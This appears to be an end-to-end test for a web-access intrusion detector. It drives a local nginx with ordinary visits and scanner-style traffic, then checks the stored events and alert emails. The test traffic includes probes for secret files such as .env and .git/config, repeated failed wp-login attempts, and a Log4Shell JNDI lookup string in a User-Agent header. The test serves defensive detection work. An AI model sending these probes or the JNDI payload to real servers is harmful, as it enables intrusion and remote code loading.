// web_access end to end: Debian's real nginx serves a local site on 127.0.0.1 and writes its
// own access log; requests a scanner would send go to it with fetch; a real agent follows
// that log, the collector stores the events in a real InfluxDB and mails them through a
// local SMTP server. Nothing here writes the log but nginx.
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPipeline, type Pipeline } from './helpers/pipeline.ts';
import { freePort } from './helpers/ports.ts';
import { pollUntil, spawnManaged, type ManagedProcess } from './helpers/process.ts';
import { startSmtpServer, type TestSmtpServer } from './helpers/smtp.ts';

const TO = 'soc@tinh.gov.vn';
let dir: string;
let nginx: ManagedProcess;
let port: number;
let p: Pipeline;
let smtp: TestSmtpServer;

function nginxConf(prefix: string, listen: number): string {
  return `
worker_processes 1;
pid ${prefix}/nginx.pid;
error_log ${prefix}/error.log warn;
events { worker_connections 64; }
http {
  access_log ${prefix}/access.log combined;
  client_body_temp_path ${prefix}/tmp/body;
  proxy_temp_path ${prefix}/tmp/proxy;
  fastcgi_temp_path ${prefix}/tmp/fastcgi;
  uwsgi_temp_path ${prefix}/tmp/uwsgi;
  scgi_temp_path ${prefix}/tmp/scgi;
  server {
    listen 127.0.0.1:${listen};
    server_name portal.test;
    root ${prefix}/www;
    location = /wp-login.php { return 200 "login failed"; }
  }
}
`;
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'canh-web-e2e-'));
  // nginx's workers run as an unprivileged user: they must be able to read the site.
  chmodSync(dir, 0o755);
  for (const d of ['www', 'tmp']) mkdirSync(join(dir, d));
  writeFileSync(join(dir, 'www', 'index.html'), '<h1>Cổng thông tin</h1>\n');
  port = await freePort('tcp');
  writeFileSync(join(dir, 'nginx.conf'), nginxConf(dir, port));
  nginx = spawnManaged('nginx', ['-c', join(dir, 'nginx.conf'), '-p', dir, '-g', 'daemon off;'], { name: 'nginx' });
  await pollUntil(async () => (await fetch(`http://127.0.0.1:${port}/`).catch(() => undefined))?.status === 200 || undefined, {
    timeoutMs: 15_000,
    what: 'nginx answering',
    onTimeout: () => nginx.describe(),
  });
  smtp = await startSmtpServer();
  p = await startPipeline({
    collector: {
      alerting: {
        recipients: [{ email: TO, language: 'en' }],
        smtp: { host: smtp.host, port: smtp.port, security: 'none', from: 'Canh <canh@tinh.gov.vn>' },
        grouping: { group_wait: '1s', group_interval: '5m', repeat_interval: '4h' },
        evaluation_interval: 200,
      },
    },
  });
  await p.addAgent({
    name: 'portal01',
    agency: 'so-tttt',
    site: 'dc1',
    detectors: [{ type: 'web_access', paths: [join(dir, 'access.log')], poll_interval: '100ms' }],
  });
}, 90_000);

afterAll(async () => {
  await nginx?.stop();
  await p?.stop();
  await smtp?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

describe('web_access end to end with nginx', () => {
  it('probes sent to nginx become stored events and mails; ordinary visits raise nothing', async () => {
    const get = (path: string, headers: Record<string, string> = {}) => fetch(`http://127.0.0.1:${port}${path}`, { headers }).then((r) => r.text());
    // Ordinary visits first: the site's page, a favicon that is missing.
    for (let i = 0; i < 5; i++) await get('/');
    await get('/favicon.ico');
    // A scanner looking for secrets, then an exploit of Log4Shell in the User-Agent.
    for (const path of ['/.env', '/.git/config', '/wp-config.php.bak', '/backup.sql', '/.htpasswd']) await get(path);
    await get('/', { 'user-agent': '${jndi:ldap://192.0.2.1:1389/x}' });
    // Five failed logins and one more (nginx answers 200, as WordPress does on a failure).
    for (let i = 0; i < 6; i++) await fetch(`http://127.0.0.1:${port}/wp-login.php`, { method: 'POST', body: `log=admin&pwd=${i}` }).then((r) => r.text());

    const rows = await p.waitFor(`SELECT * FROM security_event WHERE detector = 'web_access'`, (r) => r.length >= 3, 30_000);
    const types = rows.map((r) => r.type).sort();
    expect(types).toEqual(['web_exploit_attempt', 'web_login_brute_force', 'web_sensitive_file_probe']);
    for (const r of rows) expect(r.src_ip).toBe('127.0.0.1');
    expect(rows.find((r) => r.type === 'web_exploit_attempt')!.cve).toBe('CVE-2021-44228');
    expect(rows.find((r) => r.type === 'web_sensitive_file_probe')!.count).toBe(5);

    const exploitMail = await smtp.waitForMail((m) => m.envelope.to.includes(TO) && /exploit/i.test(m.parsed.subject ?? ''), 30_000);
    expect(exploitMail.parsed.text).toContain('CVE-2021-44228');
    const attackMail = await smtp.waitForMail((m) => m.envelope.to.includes(TO) && /attack on a web portal/i.test(m.parsed.subject ?? ''), 30_000);
    expect(attackMail.parsed.text).toMatch(/sensitive files|failed logins/);
  }, 90_000);
});
